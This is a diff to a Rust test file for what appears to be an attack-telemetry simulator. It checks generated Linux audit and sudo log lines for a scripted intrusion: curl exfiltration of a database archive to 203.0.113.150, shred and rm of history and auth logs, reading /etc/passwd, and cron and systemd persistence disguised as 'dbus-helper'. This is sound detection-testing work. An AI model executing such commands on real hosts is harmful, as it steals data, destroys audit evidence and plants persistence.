@@ -1,10 +1,13 @@
 //! The actions against the public web server and the Linux host: scans, injection,
-//! traversal, Log4Shell, SSH guessing and the intruder's sudo commands.
+//! traversal, Log4Shell, SSH guessing and the intruder's sudo commands, with the
+//! audit log's record of every program the intruder starts, persistence and log
+//! removal on Linux.
 
 use std::collections::BTreeSet;
 
-use super::{WEB, play_all, s, scenario};
+use super::{WEB, play_all, s, scenario, step, with};
 use crate::emit::Stream;
+use crate::scenario::Action;
 
 #[test]
 fn web_reconnaissance() {
@@ -195,4 +198,167 @@ fn ssh_brute_force_then_the_intruders_commands() {
     assert!(p.lines("cleanup", Stream::LinuxAuth).iter().any(|l| l.contains(
         "COMMAND=/usr/bin/shred -u -z /tmp/.cache/db.tgz /home/webadmin/.bash_history /var/log/auth.log.1"
     )));
+    assert!(auth.iter().any(|l| {
+        l.ends_with("sudo: webadmin : TTY=pts/0 ; PWD=/home/webadmin ; USER=root ; COMMAND=list")
+    }));
+
+    // The audit log: the login, the look around, and every sudo command with the
+    // command it runs, all in the intruder's session.
+    let audit = p.lines("bruteforce", Stream::LinuxAudit);
+    let execve = |lines: &[&str], args: &str| {
+        lines
+            .iter()
+            .any(|l| l.starts_with("node=WEB01 type=EXECVE ") && l.ends_with(args))
+    };
+    for args in [
+        "argc=2 a0=\"uname\" a1=\"-snrvm\"",
+        "argc=1 a0=\"-bash\"",
+        "argc=2 a0=\"id\" a1=\"-u\"",
+        "argc=1 a0=\"id\"",
+        "argc=2 a0=\"uname\" a1=\"-a\"",
+        "argc=2 a0=\"cat\" a1=\"/etc/passwd\"",
+        "argc=2 a0=\"sudo\" a1=\"-l\"",
+    ] {
+        assert!(execve(&audit, args), "{args}");
+    }
+    let session = audit
+        .iter()
+        .find(|l| l.contains(" comm=\"bash\" "))
+        .and_then(|l| l.split(" ses=").nth(1))
+        .and_then(|s| s.split(' ').next())
+        .unwrap()
+        .to_string();
+    assert!(
+        auth.iter()
+            .any(|l| l.ends_with(&format!("New session {session} of user webadmin.")))
+    );
+    let syscalls = |step: &str| -> Vec<String> {
+        p.lines(step, Stream::LinuxAudit)
+            .into_iter()
+            .filter(|l| l.contains(" type=SYSCALL "))
+            .map(str::to_string)
+            .collect()
+    };
+    for (step, args, comm) in [
+        (
+            "collect",
+            "argc=4 a0=\"tar\" a1=\"czf\" a2=\"/tmp/.cache/db.tgz\" a3=\"/var/backups/shop\"",
+            "tar",
+        ),
+        (
+            "exfil",
+            "a5=\"@/tmp/.cache/db.tgz\" a6=\"https://203.0.113.150/upload\"",
+            "curl",
+        ),
+        (
+            "cleanup",
+            "a4=\"/home/webadmin/.bash_history\" a5=\"/var/log/auth.log.1\"",
+            "shred",
+        ),
+    ] {
+        let lines = p.lines(step, Stream::LinuxAudit);
+        assert!(execve(&lines, args), "{step}");
+        let calls = syscalls(step);
+        assert_eq!(calls.len(), 2, "{step}: sudo and the command");
+        assert!(
+            calls[0].contains(" uid=1003 gid=1003 euid=0 ") && calls[0].contains(" comm=\"sudo\" ")
+        );
+        assert!(
+            calls[1].contains(" auid=1003 uid=0 gid=0 euid=0 ")
+                && calls[1].contains(&format!(" comm=\"{comm}\" "))
+        );
+        for c in &calls {
+            assert!(c.contains(&format!(" tty=pts0 ses={session} ")), "{c}");
+        }
+    }
+}
+
+/// Linux persistence and log removal on the web server: the crontab edit and the
+/// job's runs, the systemd unit installed with sudo and the service started.
+#[test]
+fn linux_persistence_and_log_removal_run_their_programs() {
+    let mut sc = scenario(WEB);
+    sc.duration = "2d".to_string();
+    let steps = &mut sc.campaign.steps;
+    steps.push(with(
+        step("cron", Action::ScheduledTask, "WEB01"),
+        Some("webadmin"),
+        None,
+        &[("every", "20")],
+    ));
+    steps.push(with(
+        step("unit", Action::ServiceInstall, "WEB01"),
+        None,
+        None,
+        &[
+            ("service", "DbusHelper"),
+            ("payload", "/usr/local/bin/dbus-helper"),
+        ],
+    ));
+    steps.push(with(
+        step("logs", Action::ClearLogs, "WEB01"),
+        Some("webadmin"),
+        None,
+        &[("logs", "/var/log/auth.log;/var/log/my app.log")],
+    ));
+    let p = play_all(&sc, 3);
+    let cron = p.lines("cron", Stream::LinuxAudit);
+    let has = |lines: &[&str], needle: &str| lines.iter().any(|l| l.contains(needle));
+    assert!(has(&cron, "argc=2 a0=\"crontab\" a1=\"-l\""));
+    assert!(has(&cron, "argc=2 a0=\"crontab\" a1=\"-\""));
+    // Each run: cron's shell, then the payload in the user's own folder.
+    let runs = p
+        .lines("cron", Stream::LinuxAuth)
+        .iter()
+        .filter(|l| l.contains("session opened for user webadmin"))
+        .count();
+    assert!(runs >= 10, "{runs}");
+    let payload = "name=\"/home/webadmin/.local/bin/dbus-helper\"";
+    let started = cron
+        .iter()
+        .filter(|l| l.contains(" type=PATH ") && l.contains(payload))
+        .count();
+    assert_eq!(started, runs);
+    assert!(
+        cron.iter()
+            .any(|l| l.contains(payload) && l.contains(" ouid=1003 "))
+    );
+    assert!(has(&cron, "a0=\"/bin/sh\" a1=\"-c\" a2=2F686F6D652F"));
+    assert!(cron.iter().any(|l| l.contains(" type=SYSCALL ")
+        && l.contains(" auid=1003 uid=1003 ")
+        && l.contains(" tty=(none) ")
+        && l.contains(" comm=\"dbus-helper\" ")));
+
+    let unit = p.lines("unit", Stream::LinuxAudit);
+    for args in [
+        "a0=\"tee\" a1=\"/etc/systemd/system/dbushelper.service\"",
+        "a0=\"chmod\" a1=\"+x\" a2=\"/usr/local/bin/dbus-helper\"",
+        "a0=\"systemctl\" a1=\"daemon-reload\"",
+        "a0=\"systemctl\" a1=\"enable\" a2=\"--now\" a3=\"dbushelper.service\"",
+    ] {
+        assert!(has(&unit, args), "{args}");
+    }
+    // systemd starts the service outside any login.
+    assert!(unit.iter().any(|l| l.contains(" ppid=1 ")
+        && l.contains(" auid=4294967295 uid=0 ")
+        && l.contains(
+            " tty=(none) ses=4294967295 comm=\"dbus-helper\" exe=\"/usr/local/bin/dbus-helper\" "
+        )));
+    assert!(
+        p.lines("unit", Stream::LinuxAuth)
+            .iter()
+            .any(|l| l.ends_with("COMMAND=/usr/bin/systemctl enable --now dbushelper.service"))
+    );
+
+    // A file name with a space is one argument, hex-encoded.
+    let logs = p.lines("logs", Stream::LinuxAudit);
+    assert!(has(
+        &logs,
+        "argc=4 a0=\"rm\" a1=\"-f\" a2=\"/var/log/auth.log\" a3=2F7661722F6C6F672F6D79206170702E6C6F67"
+    ));
+    assert!(
+        p.lines("logs", Stream::LinuxAuth)
+            .iter()
+            .any(|l| l.ends_with("COMMAND=/usr/bin/rm -f /var/log/auth.log /var/log/my app.log"))
+    );
 }
